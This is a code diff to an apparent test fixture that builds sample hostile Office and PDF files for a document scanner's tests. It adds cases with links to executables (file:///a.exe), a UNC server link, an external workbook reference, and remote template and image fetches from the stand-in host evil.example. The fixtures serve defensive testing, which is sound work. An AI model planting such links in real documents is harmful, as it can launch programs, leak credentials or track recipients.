@@ -255,7 +255,7 @@ export async function makeHostileFiles(): Promise<HostileFile[]> {
             '<Relationships><Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>',
         },
       ]),
-      'scripted',
+      'fetching',
     ),
     file(
       'a Word document with a command field',
@@ -268,6 +268,61 @@ export async function makeHostileFiles(): Promise<HostileFile[]> {
         },
       ]),
       'scripted',
+    ),
+    file(
+      'a PDF with a link to a program',
+      'letter.pdf',
+      makePdf({
+        parts: [{ dictionary: '<< /Subtype /Link /A << /S /URI /URI (file:///c:/windows/a.exe) >> >>' }],
+      }),
+      'link',
+    ),
+    file(
+      'a Word document with a link to a folder of a server',
+      'plan.docx',
+      makeOffice('docx', [
+        {
+          name: 'word/_rels/document.xml.rels',
+          content:
+            '<Relationships><Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="file:////server/papers/" TargetMode="External"/></Relationships>',
+        },
+      ]),
+      'link',
+    ),
+    file(
+      'a Word document with a field that links to a program',
+      'plan.docx',
+      makeOffice('docx', [
+        {
+          name: 'word/a.xml',
+          content: '<w:p xmlns:w="u"><w:fldSimple w:instr=\'HYPERLINK "file:///a.exe"\'/></w:p>',
+        },
+      ]),
+      'link',
+    ),
+    file(
+      'a workbook with a link to a program',
+      'plan.xlsx',
+      makeOffice('xlsx', [{ name: 'xl/a.xml', content: '<a><f>HYPERLINK("file:///a.exe","plan")</f></a>' }]),
+      'link',
+    ),
+    file(
+      'a workbook that is reckoned with another',
+      'plan.xlsx',
+      makeOffice('xlsx', [{ name: 'xl/a.xml', content: "<a><f>'C:\\x\\[b.xlsx]S'!A1</f></a>" }]),
+      'fetching',
+    ),
+    file(
+      'a Word document with a picture from elsewhere',
+      'plan.docx',
+      makeOffice('docx', [
+        {
+          name: 'word/_rels/document.xml.rels',
+          content:
+            '<Relationships><Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="http://evil.example/a.png" TargetMode="External"/></Relationships>',
+        },
+      ]),
+      'fetching',
     ),
     file('a Word document with macros', 'plan.docm', makeOffice('docm'), 'macros'),
     file(
